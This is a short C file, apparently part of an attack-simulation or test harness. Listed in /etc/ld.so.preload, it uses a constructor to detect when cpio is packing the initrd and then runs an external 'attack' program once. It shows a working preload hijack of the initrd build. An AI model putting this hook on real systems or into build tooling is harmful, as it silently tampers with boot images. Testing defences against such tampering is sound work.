/* Named in /etc/ld.so.preload of the tree: every program that is run in it loads this. It attacks
 * once, from cpio, which packs the initrd. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
	char name[16] = "";
	int comm = open("/proc/self/comm", O_RDONLY | O_CLOEXEC);
	if (comm < 0 || read(comm, name, sizeof name) < 5 || strncmp(name, "cpio\n", 5) != 0)
		return;
	close(comm);
	int once = open("/var/lib/attack-preload", O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
	if (once < 0)
		return;
	close(once);
	pid_t child = fork();
	if (child == 0) {
		dup2(2, 1);
		execl("/usr/libexec/attack", "attack", "preload", NULL);
		_exit(1);
	}
	waitpid(child, NULL, 0);
}
